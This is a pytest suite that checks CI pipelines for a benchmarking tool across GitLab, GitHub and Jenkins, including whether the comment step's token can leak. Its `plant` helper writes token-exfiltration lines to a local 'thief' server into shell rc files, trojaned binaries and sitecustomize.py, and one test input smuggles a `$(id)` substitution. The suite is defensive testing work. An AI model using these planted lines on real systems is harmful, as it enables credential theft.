"""The pipelines are what their vendors accept, and end with the exit code that the gate gives.

What runs here are the files' own shell lines, as their vendors would run them, with stand-ins for `reframe` and `nearmetal`
that say which exit code they were told: it is the pipelines' logic that is tested, no measurement.
"""

import http.server
import itertools
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import textwrap
import threading
import time
import urllib.parse
from pathlib import Path

import pytest
import yaml

from tests.support.paths import CHECKOUT

GITLAB, GITHUB, JENKINS = (
    CHECKOUT / "ci" / name for name in ("gitlab-ci.yml", "github-actions.yml", "Jenkinsfile")
)
VENDORS = ["gitlab", "github", "jenkins"]


class GitLabLoader(yaml.SafeLoader):
    """Keeps a `!reference` as the list of keys that it is."""


GitLabLoader.add_constructor("!reference", lambda loader, node: loader.construct_sequence(node))


def gitlab_script(job: str) -> str:
    """A job's lines in the one shell that they share."""
    document = yaml.load(GITLAB.read_text(), GitLabLoader)
    parts = document[job]["script"]
    return "\n".join(
        line
        for part in parts
        for line in ([part] if isinstance(part, str) else document[part[0]][part[1]])
    )


def github_steps(job: str) -> dict[str, str]:
    steps = yaml.safe_load(GITHUB.read_text())["jobs"][job]["steps"]
    return {step["name"]: step["run"] for step in steps if "run" in step}


def jenkins_steps() -> dict[str, str]:
    """The scripts by the stage they stand in, '' for the one after the stages; Groovy and bash
    join lines at a backslash alike."""
    pieces = re.split(r"stage\('(.*?)'\)|(post) \{", JENKINS.read_text())
    found = {}
    for stage, after, text in zip(pieces[1::3], pieces[2::3], pieces[3::3]):
        for script in re.findall(r"'''(#!.*?)'''", text, re.DOTALL):
            first, rest = script.split("\n", 1)
            found["" if after else stage] = f"{first}\n{textwrap.dedent(rest)}"
    return found


def scripts() -> dict[str, str]:
    """Every piece of shell in the three files."""
    document = yaml.load(GITLAB.read_text(), GitLabLoader)
    return {
        "gitlab .campaign": "\n".join(document[".campaign"]["before_script"]),
        **{f"gitlab {job}": gitlab_script(job) for job in ("nightly", "change", "comment")},
        **{
            f"github {job} {name}": run
            for job in ("campaign", "comment")
            for name, run in github_steps(job).items()
        },
        **{f"jenkins {stage}": script for stage, script in jenkins_steps().items()},
    }


def expanded() -> dict:
    """The GitLab file with each job whole: the schema does not look into a template, nor GitLab at one that nobody extends."""
    document = yaml.load(GITLAB.read_text(), GitLabLoader)
    jobs = {
        name: {**document.get(job.get("extends"), {}), **job, "script": [gitlab_script(name)]}
        for name, job in document.items()
        if isinstance(job, dict) and "script" in job and not name.startswith(".")
    }
    return {
        name: jobs.get(name, part) for name, part in document.items() if not name.startswith(".")
    }


def schema_says(schema: str, path: Path, *options: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, *options, path],
        text=True,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )


def test_gitlabs_schema_accepts_it_and_would_refuse_an_error(tmp_path):
    done = schema_says("vendor.gitlab-ci", GITLAB, "--data-transform", "gitlab-ci")
    assert done.returncode == 0, done.stdout
    whole, wrong = tmp_path / "whole.yml", tmp_path / "wrong.yml"
    whole.write_text(yaml.safe_dump(expanded()))
    wrong.write_text(whole.read_text().replace("when: always", "when: perhaps"))
    done = schema_says("vendor.gitlab-ci", whole)
    assert done.returncode == 0, done.stdout
    assert (
        "artifacts" in (refused := schema_says("vendor.gitlab-ci", wrong)).stdout
        and refused.returncode == 1
    )


def test_githubs_schema_accepts_it_and_would_refuse_an_error(tmp_path):
    wrong = tmp_path / GITHUB.name
    wrong.write_text(GITHUB.read_text().replace("    timeout-minutes: 480", "    timeout: 480"))
    done = schema_says("vendor.github-workflows", GITHUB)
    assert done.returncode == 0, done.stdout
    assert (
        "timeout" in (refused := schema_says("vendor.github-workflows", wrong)).stdout
        and refused.returncode == 1
    )


@pytest.mark.parametrize("name", scripts())
def test_bash_can_read_it(name):
    done = subprocess.run(["bash", "-n"], input=scripts()[name], text=True, capture_output=True)
    assert (done.returncode, done.stderr) == (0, "")


def test_the_jenkinsfile_hands_all_shell_to_bash_as_it_stands():
    text = re.sub(r"^\s*//.*", "", JENKINS.read_text(), flags=re.MULTILINE)
    assert '"""' not in text, "Groovy would put secrets into the text of the script"
    outside = re.sub(r"'''.*?'''", "''", text, flags=re.DOTALL)
    assert outside.count("{") == outside.count("}")
    assert len(re.findall(r"\bsh\b", outside)) == len(jenkins_steps()), (
        "a script that no test here sees"
    )


def test_they_install_as_the_readme_says():
    readme = (CHECKOUT / "README.md").read_text()
    for install in (
        scripts()[name]
        for name in ("gitlab .campaign", "github campaign Install", "jenkins Install")
    ):
        commands = [
            line for line in install.splitlines() if "pip install" in line or "-m venv" in line
        ]
        assert len(commands) == 3
        assert all(command in readme for command in commands)


def test_changes_from_forks_reach_no_runner_on_the_cluster():
    document = yaml.load(GITLAB.read_text(), GitLabLoader)
    for place in (
        document["workflow"],
        document["nightly"],
        document["change"],
        document["comment"],
    ):
        assert all(
            "$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID" in rule["if"]
            or "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH" in rule["if"]
            for rule in place["rules"]
        )
    jobs = yaml.safe_load(GITHUB.read_text())["jobs"]
    reached_by = {clause.split("'")[1]: clause for clause in jobs["campaign"]["if"].split("||")}
    assert set(reached_by) == {"schedule", "workflow_dispatch", "pull_request"}
    assert "head.repo.full_name == github.repository" in reached_by["pull_request"]
    assert [name for name, job in jobs.items() if "self-hosted" in job["runs-on"]] == ["campaign"]
    assert re.search(
        r"allOf \{\s*changeRequest\(\)\s*expression \{ !env.CHANGE_FORK \}\s*\}",
        JENKINS.read_text(),
    )


def test_the_three_judge_alike():
    gitlab, github, jenkins = (
        scripts()[name].partition("told=0")[2]
        for name in ("gitlab nightly", "github campaign Gate and report", "jenkins Gate and report")
    )
    assert gitlab.strip() == github.strip() == jenkins.strip() != ""


def command_lines(program: str) -> list[list[str]]:
    """The words of every call of a program in the three files."""
    text = "\n".join(scripts().values()).replace("\\\n", " ")
    return [
        shlex.split(call.partition("||")[0])
        for call in re.findall(rf"^ *({program} .*)", text, re.MULTILINE)
    ]


def options_of(*command: str) -> set[str]:
    shown = subprocess.run([*command, "--help"], text=True, capture_output=True, check=True).stdout
    return set(re.findall(r"(?<![\w-])--?[a-zA-Z][\w-]*", shown))


def test_reframe_has_every_option_that_they_give_it():
    calls, known = (
        command_lines("reframe"),
        options_of(str(Path(sys.executable).parent / "reframe")),
    )
    assert len(calls) == 9
    given = {word.partition("=")[0] for call in calls for word in call if word.startswith("-")}
    assert given <= known


def test_nearmetal_has_every_command_and_option_that_they_give_it():
    calls = command_lines("nearmetal")
    assert {call[1] for call in calls} == {"gate", "report"}
    for command in ("gate", "report"):
        given = {
            word.partition("=")[0]
            for call in calls
            if call[1] == command
            for word in call
            if word.startswith("-")
        }
        assert given <= options_of(sys.executable, "-m", "nearmetal", command)


def test_actions_are_pinned_to_commits():
    uses = re.findall(r"uses: (\S+)(.*)", GITHUB.read_text())
    assert uses
    pinned = re.compile(r"actions/[a-z-]+@[0-9a-f]{40}")
    assert [use for use, comment in uses if not pinned.fullmatch(use) or "# v" not in comment] == []


STAND_IN = """#!{python} -IS
import os, sys
name, arguments = os.path.basename(sys.argv[0]), sys.argv[1:]
with open("calls", "a") as log:
    print(name, *arguments, os.environ.get("RFM_PREFIX"), file=log, sep="\\t")
kind = name if name == "reframe" else arguments[0]
if "--dry-run" in arguments:
    kind = "dry"
for option in ("--json", "--junit", "--markdown", "--openmetrics", "--output"):
    if option in arguments:
        open(arguments[arguments.index(option) + 1], "w").write(option)
sys.exit(int(os.environ["CODE_" + kind]))
"""


class Site:
    """A workspace after the installation, and how each vendor runs a campaign's shell there."""

    def __init__(self, workspace: Path, **codes):
        self.workspace = workspace
        (workspace / "campaign").mkdir()
        programs = workspace / ".venv" / "bin"
        programs.mkdir(parents=True)
        for name in ("reframe", "nearmetal"):
            (programs / name).write_text(STAND_IN.format(python=sys.executable))
            (programs / name).chmod(0o755)
        (programs / "activate").write_text(f'PATH="{programs}:$PATH"\n')
        self.environment = {
            **os.environ,
            "NEARMETAL_SYSTEM": "ec2",
            "NEARMETAL_CHECKS": "tcp",
            "RFM_PREFIX": "/shared/results",
            "CODE_reframe": "0",
            "CODE_gate": "0",
            "CODE_report": "0",
            "CODE_dry": "0",
            **codes,
        }

    def shell(self, *command: str, script: str, **more) -> int:
        return subprocess.run(
            [*command],
            input=script,
            text=True,
            cwd=self.workspace,
            env={**self.environment, **more},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        ).returncode

    def gitlab(self, change: bool) -> int:
        activate = yaml.load(GITLAB.read_text(), GitLabLoader)[".campaign"]["before_script"][-1]
        return self.shell(
            "bash",
            "-eo",
            "pipefail",
            script=activate + gitlab_script("change" if change else "nightly"),
        )

    def github(self, change: bool) -> int:
        steps, handed = github_steps("campaign"), self.workspace / "handed"
        measure = steps[
            "Dry run and smaller campaign of a change" if change else "Nightly campaign"
        ]
        here = {
            "GITHUB_ENV": str(handed),
            "RFM_PREFIX": "/shared/results/changes" if change else "/shared/results",
        }
        code = self.shell("bash", "-eo", "pipefail", script=measure, **here)
        passed_on = (
            dict(line.split("=") for line in handed.read_text().splitlines()) if code == 0 else {}
        )
        return code or self.shell(
            "bash", "-eo", "pipefail", script=steps["Gate and report"], **here, **passed_on
        )

    def jenkins(self, change: bool) -> int:
        steps, here = jenkins_steps(), {"CHANGE_ID": "7"} if change else {}
        if change and (code := self.shell("bash", script=steps["Dry run of a change"], **here)):
            return code
        ran = self.shell(
            "bash",
            script=steps["Smaller campaign of a change" if change else "Nightly campaign"],
            **here,
        )
        return self.shell("bash", script=steps["Gate and report"], ran=str(ran), **here)

    @property
    def calls(self) -> list[list[str]]:
        return [line.split("\t") for line in (self.workspace / "calls").read_text().splitlines()]


@pytest.mark.parametrize("vendor", VENDORS)
@pytest.mark.parametrize(
    "reframe, gate, report, ends",
    [
        (0, 0, 0, 0),
        (0, 1, 0, 1),
        (1, 2, 0, 2),
        (1, 1, 0, 1),
        (0, 3, 1, 3),
        (1, 0, 0, 2),
        (0, 0, 3, 3),
    ],
)
def test_it_ends_with_what_the_gate_says_and_keeps_the_report(
    tmp_path, vendor, reframe, gate, report, ends
):
    site = Site(tmp_path, CODE_reframe=str(reframe), CODE_gate=str(gate), CODE_report=str(report))
    assert getattr(site, vendor)(change=False) == ends
    assert {path.name for path in (tmp_path / "campaign").iterdir()} == {
        "started",
        "gate.json",
        "gate.xml",
        "gate.md",
        "gate.prom",
        "report.html",
    }


@pytest.mark.parametrize("vendor, change", itertools.product(VENDORS, [False, True]))
def test_a_session_from_before_this_run_is_not_judged_for_it(tmp_path, vendor, change):
    site, before = Site(tmp_path), int(time.time())
    assert getattr(site, vendor)(change=change) == 0
    (gate,) = (call for call in site.calls if call[1] == "gate")
    assert before <= int(gate[gate.index("--since") + 1]) <= time.time()


@pytest.mark.parametrize("vendor", VENDORS)
def test_a_change_is_dry_run_first_and_keeps_out_of_the_history(tmp_path, vendor):
    site = Site(tmp_path)
    assert getattr(site, vendor)(change=True) == 0
    dry, run, gate, report = site.calls
    assert "--dry-run" in dry and "-r" in run and run[run.index("-n") + 1] == "tcp"
    assert (gate[1], report[1]) == ("gate", "report")
    assert {call[-1] for call in (run, gate, report)} == {"/shared/results/changes"}


@pytest.mark.parametrize("vendor", VENDORS)
def test_a_change_whose_dry_run_fails_measures_nothing(tmp_path, vendor):
    site = Site(tmp_path, CODE_dry="1")
    assert getattr(site, vendor)(change=True) == 3
    assert len(site.calls) == 1


@pytest.mark.parametrize("name", ["gitlab .campaign", "github campaign Install", "jenkins Install"])
@pytest.mark.parametrize(
    "wrong",
    [{"NEARMETAL_SYSTEM": ""}, {"RFM_PREFIX": ""}, {"RFM_PREFIX": "results"}, {"RFM_PREFIX": "."}],
)
def test_settings_that_would_lose_results_are_bad_usage(tmp_path, name, wrong):
    settings = {"NEARMETAL_SYSTEM": "ec2", "RFM_PREFIX": "/shared", **wrong}
    if settings["RFM_PREFIX"] == ".":
        settings["RFM_PREFIX"] = str(tmp_path / "results")
    (tmp_path / "campaign").mkdir()
    (tmp_path / "campaign" / "gate.md").write_text("of the last run")
    done = subprocess.run(
        ["bash", "-eo", "pipefail"],
        input=scripts()[name],
        text=True,
        cwd=tmp_path,
        capture_output=True,
        env={**os.environ, **settings},
    )
    assert done.returncode == 3
    assert next(iter(wrong)) in done.stderr
    assert not (tmp_path / "campaign" / "gate.md").exists(), (
        "would be kept and shown as of this run"
    )


def callers(url: str) -> list[tuple[bytes, bytes]]:
    """Command line and environment of each curl that calls this address: what a process of the same user can read."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            line = (process / "cmdline").read_bytes()
            if line.startswith(b"curl\0") and url.encode() in line:
                found.append((line, (process / "environ").read_bytes()))
        except OSError:
            continue  # it has ended, or is somebody else's
    return found


class Forge(http.server.BaseHTTPRequestHandler):
    """Keeps what was posted."""

    def do_POST(self):
        self.server.callers += callers(f":{self.server.server_port}/")
        self.server.posts.append(
            (self.path, self.headers, self.rfile.read(int(self.headers["Content-Length"])).decode())
        )
        self.send_response(201)
        self.end_headers()

    def log_message(self, *arguments):
        pass


def serve():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Forge)
    server.posts, server.callers = [], []
    threading.Thread(target=server.serve_forever, args=[0.01], daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


forge = pytest.fixture(serve, name="forge")
thief = pytest.fixture(serve, name="thief")


def of_a_comment(forge) -> dict[str, str]:
    """What the vendors set for the step that comments."""
    url = f"http://127.0.0.1:{forge.server_port}"
    return {
        "PATH": os.environ["PATH"],
        "NEARMETAL_TOKEN": "secret",
        "CI_API_V4_URL": f"{url}/api/v4",
        "CHANGE_ID": "7",
        "CI_MERGE_REQUEST_PROJECT_ID": "5",
        "CI_MERGE_REQUEST_IID": "7",
        "CI_PIPELINE_URL": "https://the/log",
        "BUILD_URL": "https://the/log",
        "NEARMETAL_COMMENT_URL": f"{url}/api/v4/projects/5/merge_requests",
        "NEARMETAL_COMMENT_END": "notes",
        "LC_ALL": "C.UTF-8",
        "no_proxy": "127.0.0.1",
    }


def comment(vendor: str, workspace: Path, environment: dict) -> subprocess.CompletedProcess:
    """The vendor's own lines, with a workspace that holds what the campaign kept."""
    return subprocess.run(
        ["bash", "-eo", "pipefail"],
        input=gitlab_script("comment") if vendor == "gitlab" else jenkins_steps()[""],
        text=True,
        cwd=workspace,
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        timeout=60,
    )


@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
@pytest.mark.parametrize("verdict", ['| tcp | +12 % | "`$(id)`" & Größe @file |\n', None])
def test_the_comment_is_the_markdown_and_never_shows_the_token(tmp_path, forge, vendor, verdict):
    if verdict:
        (tmp_path / "campaign").mkdir()
        (tmp_path / "campaign" / "gate.md").write_text(verdict)
    done = comment(vendor, tmp_path, of_a_comment(forge))
    assert (done.returncode, "secret" in done.stdout) == (0, False), done.stdout
    ((path, headers, text),) = forge.posts
    assert path == "/api/v4/projects/5/merge_requests/7/notes"
    if vendor == "gitlab":
        token, body = headers["PRIVATE-TOKEN"], urllib.parse.parse_qs(text)["body"][0]
    else:
        token, body = headers["Authorization"].removeprefix("Bearer "), json.loads(text)["body"]
    assert token == "secret"
    assert body == verdict if verdict else "https://the/log" in body


def plant(
    home: Path, workspace: Path, thief, programs=("curl", "python3", "cat", "id", "mktemp")
) -> dict:
    """What a change's code can leave behind: files in its user's home and workspace, and variables of the shell."""
    url = f"http://127.0.0.1:{thief.server_port}"
    steal = f'/usr/bin/curl -q -s --data "stolen=$NEARMETAL_TOKEN$(cat)" {url}/program\n'
    files = {
        ".curlrc": f'proxy = "{url}"\nnext\nurl = "{url}/curlrc"\ndata = "stolen"\n',
        ".config/curlrc": f'proxy = "{url}"\n',
        ".netrc": "default login thief password thief\n",
        ".gitconfig": "[core]\n    hooksPath = ~/hooks\n[credential]\n    helper = !steal\n",
        ".config/gh/hosts.yml": "github.com:\n    oauth_token: thief\n",
        ".config/glab-cli/config.yml": "host: thief\n",
        ".bashrc": steal,
        ".bash_profile": steal,
        ".profile": steal,
        "sitecustomize.py": f"import urllib.request as u; u.urlopen('{url}/python', b'stolen')\n",
    }
    for name, text in files.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    for directory in (home / "bin", workspace):
        directory.mkdir(exist_ok=True)
        for name in programs:
            (directory / name).write_text(f"#!/bin/sh\n{steal}")
            (directory / name).chmod(0o755)
    return {
        "HOME": str(home),
        "PATH": f"{home}/bin:.:{os.environ['PATH']}",
        "CURL_HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "PYTHONPATH": str(home),
        "ALL_PROXY": url,
        "http_proxy": url,
        "GIT_CONFIG_GLOBAL": str(home / ".gitconfig"),
        "LD_LIBRARY_PATH": str(home),
    }


@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
def test_what_a_change_left_behind_takes_no_part_in_the_comment(tmp_path, forge, thief, vendor):
    home, workspace = tmp_path / "home", tmp_path / "workspace"
    (workspace / "campaign").mkdir(parents=True)
    (workspace / "campaign" / "gate.md").write_text("clean")
    (workspace / "campaign" / "account").write_text("somebody@elsewhere\n")
    planted = plant(home, workspace, thief)
    # The plant bites where nobody takes care.
    subprocess.run(
        ["curl", "-s", "-d", "x", f"http://127.0.0.1:{forge.server_port}/"],
        env={**planted, "PATH": os.environ["PATH"], "no_proxy": "nothing"},
        capture_output=True,
    )
    assert thief.posts and not forge.posts
    thief.posts.clear()
    done = comment(vendor, workspace, {**of_a_comment(forge), **planted})
    assert done.returncode == 0, done.stdout
    assert (len(forge.posts), thief.posts) == (1, [])
    assert "secret" not in done.stdout


@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
def test_the_process_that_calls_the_forge_shows_no_token(tmp_path, forge, vendor):
    """Of the shell itself that does not hold: hence a runner of its own, which the next tests ask for."""
    (tmp_path / "campaign").mkdir()
    (tmp_path / "campaign" / "gate.md").write_text("clean")
    done = comment(vendor, tmp_path, {**of_a_comment(forge), "LD_LIBRARY_PATH": str(tmp_path)})
    assert done.returncode == 0, done.stdout
    [(line, environment)] = forge.callers
    assert b"secret" not in line and b"secret" not in environment
    names = {variable.partition(b"=")[0] for variable in environment.split(b"\0") if variable}
    assert names == {b"HOME", b"PATH", b"https_proxy", b"no_proxy"}


@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
def test_the_user_that_ran_the_change_does_not_comment(tmp_path, forge, vendor):
    (tmp_path / "campaign").mkdir()
    subprocess.run(
        ["bash"],
        input=next(
            line
            for line in scripts()[
                f"{vendor} Install" if vendor == "jenkins" else "gitlab .campaign"
            ].splitlines()
            if "campaign/account" in line
        ),
        text=True,
        cwd=tmp_path,
        check=True,
    )
    done = comment(vendor, tmp_path, of_a_comment(forge))
    assert done.returncode == 1 and "another" in done.stdout and "nearmetal-comment" in done.stdout
    assert forge.posts == []


@pytest.mark.parametrize("vendor", ["gitlab", "jenkins", "github"])
@pytest.mark.parametrize("link", ["campaign", "campaign/gate.md"])
def test_a_link_instead_of_the_verdict_is_not_read(tmp_path, forge, vendor, link):
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "gate.md").write_text("of the runner's user")
    if link == "campaign":
        (tmp_path / link).symlink_to("private")
    else:
        (tmp_path / "campaign").mkdir()
        (tmp_path / link).symlink_to(tmp_path / "private" / "gate.md")
    if vendor == "github":
        done = subprocess.run(
            ["bash", "-eo", "pipefail"],
            input=github_steps("comment")["Comment on the pull request"],
            text=True,
            cwd=tmp_path,
            env={"PATH": os.environ["PATH"], "RUN": "https://the/log"},
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        assert not (tmp_path / "comment.md").exists()
    else:
        done = comment(vendor, tmp_path, of_a_comment(forge))
    assert done.returncode == 1 and "link" in done.stdout
    assert forge.posts == []
    assert (tmp_path / "private" / "gate.md").exists()


def test_the_token_is_only_where_no_code_of_a_change_ran():
    document = yaml.load(GITLAB.read_text(), GitLabLoader)
    jobs = expanded()
    runs_changes = {tag for name in ("nightly", "change") for tag in jobs[name]["tags"]}
    assert not runs_changes & set(document["comment"]["tags"]) and document["comment"]["tags"]
    assert document["comment"]["variables"]["GIT_STRATEGY"] == "none"
    github = yaml.safe_load(GITHUB.read_text())["jobs"]
    assert github["comment"]["runs-on"] == "ubuntu-latest"
    assert "write" not in github["campaign"]["permissions"].values()
    assert not [step for step in github["comment"]["steps"] if "checkout" in step.get("uses", "")]
    jenkins = re.sub(r"^\s*//.*", "", JENKINS.read_text(), flags=re.MULTILINE)
    before, node, after = jenkins.partition("node('nearmetal-comment') {")
    assert node and "withCredentials" in after
    assert "withCredentials" not in before and "NEARMETAL_TOKEN" not in before
    assert re.findall(r"agent \{ label '(.*?)' \}", jenkins) == ["nearmetal"]
